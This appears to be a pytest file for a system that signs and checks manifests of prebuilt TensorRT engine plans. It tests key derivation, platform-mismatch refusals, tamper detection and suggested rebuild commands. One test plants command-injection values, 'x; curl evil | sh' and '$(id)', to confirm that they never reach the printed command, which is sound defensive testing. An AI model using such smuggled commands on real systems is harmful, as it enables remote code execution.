"""A plan at rest: named by what went in, signed, and checked before anything reads the engine."""

from __future__ import annotations

import json
from contextlib import nullcontext
from dataclasses import fields, replace
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest

from engines.errors import PlanMismatchError
from engines.nets import plan
from engines.nets.base import Slot
from engines.nets.manifest import (
    Bounds,
    Ingredients,
    Manifest,
    Outcome,
    folder_of,
    key_of,
    parse,
    rebuild,
)
from engines.nets.place import BOUND, Place
from engines.nets.plan import PlanFiles, checked, opened, read, write
from engines.nets.sides import Sides
from engines.sealing.signing import machine_key
from tests.engines.plans.ingredients import BOARD, ingredients

ENGINE = b"an engine, as far as this test goes"
INGREDIENTS = ingredients(
    model="sdxs",
    revision="abc123",
    licence="openrail++",
    graph="unet",
    opset=17,
    target="orin-nano",
    library="tensorrt",
    library_version="10.3.0",
    place=BOARD,
    sizes=(Sides(512, 384), Sides(512, 512)),
    inputs=(Slot("sample", "float16", (1, 4, None, 64)),),
    profiles=((Bounds("sample", (1, 4, 48, 64), (1, 4, 64, 64), (1, 4, 64, 64)),),),
    weights={"unet.safetensors": "1" * 64},
    flags=("FP16", "STRONGLY_TYPED"),
    options={"workspace_mib": 1024, "level": 3},
)
OUTCOME = Outcome(
    sha256(ENGINE).hexdigest(), len(ENGINE), "2026-11-22T10:00:00+00:00", 12.5, layers={"fp16": 40}
)
MANIFEST = Manifest(INGREDIENTS, OUTCOME, "0.1.0", {"cosine": 0.9999})
REBUILD = (
    "python build_trt.py build --model sdxs --target orin-nano --precision fp16 --size 512x384,512 "
    "--preset kiosk"
)
HERE = REBUILD.replace("orin-nano", "here")


@pytest.fixture
def engine(tmp_path: Path) -> Path:
    place = tmp_path / "plans" / "sdxs" / "0123456789abcdef"
    place.mkdir(parents=True)
    (place / "unet.engine").write_bytes(ENGINE)
    write(place / "unet.engine", MANIFEST, keys=tmp_path)
    return place / "unet.engine"


def check(engine: Path, place: Place = BOARD, version: str = "10.3.0", **more: Any) -> Manifest:
    return checked(engine, place, library_version=version, keys=engine.parents[3], **more)


def refusal(engine: Path, *arguments: Any) -> str:
    with pytest.raises(PlanMismatchError) as refused:
        check(engine, *arguments)
    return str(refused.value)


def sign_again(engine: Path, change: dict[str, Any]) -> None:
    """As if this machine had written and signed something else."""
    told = json.loads(PlanFiles(engine).manifest.read_bytes()) | change
    data = json.dumps(told).encode()
    PlanFiles(engine).manifest.write_bytes(data)
    key = machine_key(engine.parents[3])
    signed = key.sign(b"unet\0" + data, purpose=plan.PURPOSE)
    PlanFiles(engine).signature.write_text(signed)


def test_a_manifest_comes_back_as_it_was_written(engine: Path) -> None:
    assert check(engine) == MANIFEST
    assert parse(MANIFEST.to_bytes()) == MANIFEST
    assert MANIFEST.key == key_of(INGREDIENTS)


def test_the_checked_bytes_are_given_to_be_opened(engine: Path) -> None:
    with opened(engine, BOARD, library_version="10.3.0", keys=engine.parents[3]) as (_, mapped):
        assert bytes(mapped) == ENGINE


def test_the_key_is_of_what_went_in_and_of_nothing_else() -> None:
    slower = replace(OUTCOME, engine_sha256="2" * 64, seconds=99.0)
    assert replace(MANIFEST, outcome=slower, verified=None).key == MANIFEST.key
    drivers = replace(BOARD, driver="999.1", cuda="13.0", jetpack=None, l4t="36.4.7")
    assert key_of(replace(INGREDIENTS, place=drivers)) == MANIFEST.key


OTHER: dict[str, Any] = {
    "opset": 18,
    "place": replace(BOARD, sm_count=4),
    "sizes": (Sides(384, 512), Sides(512, 512)),
    "dynamic": True,
    "inputs": (),
    "outputs": (Slot("noise", "float16", (1,)),),
    "profiles": (),
    "islands": ("/norm",),
    "weights": {},
    "calibration_sha256": "3" * 64,
    "flags": (),
    "options": {},
    "computes": ("8.7",),
}


@pytest.mark.parametrize("name", [each.name for each in fields(Ingredients)])
def test_every_ingredient_but_licence_and_origins_is_in_the_key(name: str) -> None:
    changed = replace(INGREDIENTS, **{name: OTHER.get(name, "another")})
    assert (key_of(changed) == MANIFEST.key) == (name in ("licence", "origins"))


def test_a_folder_is_named_by_all_its_plans_in_any_order() -> None:
    decoder = replace(INGREDIENTS, graph="decoder")
    assert folder_of([INGREDIENTS, decoder]) == folder_of([decoder, INGREDIENTS])
    assert folder_of([INGREDIENTS]) != folder_of([decoder])


ELSEWHERE = {
    "os": "windows",
    "arch": "x86_64",
    "gpu": "NVIDIA GeForce RTX 4090",
    "compute": "8.9",
    "sm_count": 6,
    "l4t": "39.2.0",
}


@pytest.mark.parametrize("name", BOUND)
def test_a_field_that_binds_is_refused_by_name_with_both_values(name: str, engine: Path) -> None:
    told = refusal(engine, replace(BOARD, **{name: ELSEWHERE[name]}))
    shown = {"l4t": ("36.4", "39.2")}.get(name, (getattr(BOARD, name), ELSEWHERE[name]))
    assert f"{name} is {shown[0]!r} in the manifest, {shown[1]!r} here" in told
    assert told.endswith(HERE)


@pytest.mark.parametrize("name", ["driver", "cuda", "jetpack"])
def test_what_does_not_bind_is_not_refused(name: str, engine: Path) -> None:
    assert check(engine, replace(BOARD, **{name: "99.9"})) == MANIFEST


def test_another_library_is_refused_for_the_same_target(engine: Path) -> None:
    told = refusal(engine, BOARD, "10.16.2")
    assert "library_version is '10.3.0' in the manifest, '10.16.2' here" in told
    assert told.endswith(REBUILD)


def test_what_was_built_ahead_of_time_opens_where_it_was_built_for(tmp_path: Path) -> None:
    anywhere = replace(INGREDIENTS, place=Place("linux", "x86_64"), computes=("8.6", "8.9"))
    (tmp_path / "unet.engine").write_bytes(ENGINE)
    write(tmp_path / "unet.engine", replace(MANIFEST, ingredients=anywhere), keys=tmp_path)
    for compute, fits in (("8.9", True), ("12.0", False)):
        place = Place("linux", "x86_64", gpu="some card", compute=compute, sm_count=9)
        found = [name for name, *_ in plan.mismatches(anywhere, place, "10.3.0")]
        assert found == ([] if fits else ["computes"])


def test_a_changed_engine_is_refused(engine: Path) -> None:
    engine.write_bytes(ENGINE.replace(b"an", b"An"))
    told = refusal(engine)
    assert f"engine_sha256 is {OUTCOME.engine_sha256} in the manifest" in told
    assert told.endswith(REBUILD)


@pytest.mark.parametrize("content", [b"", ENGINE[:-1], None])
def test_an_engine_of_another_size_is_refused(content: bytes | None, engine: Path) -> None:
    engine.unlink() if content is None else engine.write_bytes(content)
    told = refusal(engine)
    assert f"engine_bytes is {len(ENGINE)} in the manifest, {len(content or b'')} on disk" in told


def test_a_changed_manifest_is_refused_before_it_is_believed(engine: Path) -> None:
    manifest = PlanFiles(engine).manifest
    manifest.write_bytes(manifest.read_bytes().replace(b'"8.7"', b'"8.9"'))
    told = refusal(engine)
    assert "signature: it was changed after it was signed" in told
    assert "build_trt.py build --model sdxs" in told


def test_a_changed_manifest_puts_nothing_into_the_command(engine: Path) -> None:
    evil = replace(INGREDIENTS, model="x; curl evil | sh", precision="$(id)")
    PlanFiles(engine).manifest.write_bytes(replace(MANIFEST, ingredients=evil).to_bytes())
    told = refusal(engine)
    assert "curl" not in told
    assert told.endswith("build --target here --size 512x384,512 --preset kiosk")


def test_a_foreign_signature_is_refused_by_name(engine: Path, tmp_path: Path) -> None:
    other = write(engine, MANIFEST, keys=tmp_path / "other machine")
    assert other.signature.exists()
    names = [machine_key(each).name for each in (tmp_path / "other machine", tmp_path)]
    assert f"signed with the key {names[0]}, this machine's is {names[1]}" in refusal(engine)


def test_a_machine_that_never_built_opens_nothing(engine: Path, tmp_path: Path) -> None:
    with pytest.raises(PlanMismatchError, match="this machine has no key"):
        read(engine, keys=tmp_path / "new machine")
    assert not (tmp_path / "new machine").exists()


@pytest.mark.parametrize("what", ["manifest", "signature"])
def test_a_missing_file_is_refused(what: str, engine: Path) -> None:
    getattr(PlanFiles(engine), what).unlink()
    told = refusal(engine)
    assert f"{what}: unet.{'json' if what == 'manifest' else 'sig'} is missing" in told
    assert "--model sdxs --target here" in told


def test_two_plans_of_this_machine_cannot_be_exchanged(engine: Path) -> None:
    decoder = engine.with_name("decoder.engine")
    for one in (PlanFiles(engine).engine, PlanFiles(engine).manifest, PlanFiles(engine).signature):
        one.rename(decoder.with_suffix(one.suffix))
    assert "changed after it was signed" in refusal(decoder)


@pytest.mark.parametrize(
    ("change", "told"),
    [
        ({"format": 1}, "format is 1 in the manifest, 3 is what this Sketchwell reads"),
        ({"key": "0" * 16}, "key is '0000000000000000' in the manifest"),
        ({"outcome": {}}, "the manifest cannot be read"),
    ],
)
def test_a_manifest_that_does_not_fit_is_refused_though_signed(
    change: dict[str, Any], told: str, engine: Path
) -> None:
    sign_again(engine, change)
    assert told in refusal(engine)


def test_what_was_never_verified_is_opened_for_verifying_alone(engine: Path) -> None:
    write(engine, replace(MANIFEST, verified=None), keys=engine.parents[3])
    assert f"never verified. Run: python build_trt.py verify {engine.parent}" in refusal(engine)
    assert check(engine, verified=False).verified is None


def test_what_was_verified_on_another_gpu_is_verified_again(tmp_path: Path) -> None:
    engine = tmp_path / "unet.engine"
    engine.write_bytes(ENGINE)
    anywhere = Place(os="linux", arch="aarch64", l4t="36.4.3")
    manifest = replace(MANIFEST, ingredients=replace(INGREDIENTS, place=anywhere))
    for gpu, told in (("Orin", None), ("Thor", "was verified on Thor, and here is Orin")):
        write(engine, replace(manifest, verified={"gpu": gpu}), keys=tmp_path)
        with nullcontext() if told is None else pytest.raises(PlanMismatchError, match=told):
            checked(engine, BOARD, library_version="10.3.0", keys=tmp_path)


def test_a_command_says_what_was_built() -> None:
    assert rebuild(INGREDIENTS) == REBUILD
    assert rebuild(replace(INGREDIENTS, dynamic=True)) == f"{REBUILD} --dynamic"


def test_a_manifest_without_end_is_refused_like_any_other(engine: Path) -> None:
    PlanFiles(engine).manifest.write_bytes(b"[" * 100_000)
    assert "signature: " in refusal(engine)
    with pytest.raises(PlanMismatchError, match="cannot be read"):
        parse(b"[" * 100_000)
